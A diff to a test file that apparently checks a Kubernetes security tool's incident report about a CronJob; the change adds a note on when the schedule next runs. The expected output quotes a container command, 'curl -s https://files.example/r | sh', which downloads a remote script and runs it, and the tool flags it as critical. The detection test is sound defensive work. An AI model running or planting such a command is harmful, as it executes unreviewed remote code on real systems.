@@ -46,7 +46,8 @@ test('an incident in one screen', () => {
   What    created (allowed, 2 findings): data/CronJob nightly-report
           container report of image ghcr.io/ops-tools/runner:1 runs: sh -c "curl -s
             https://files.example/r | sh"
-          schedule */5 * * * *: every 5 minutes
+          schedule */5 * * * *: every 5 minutes, next due 2026-11-23 04:40:00 UTC if the cluster
+            keeps UTC
   Why     A grave rule (critical): the command of container report downloads and runs: curl -s
             https://files.example/r | sh
           Downloads a script and pipes it into a shell (high): the command of container report
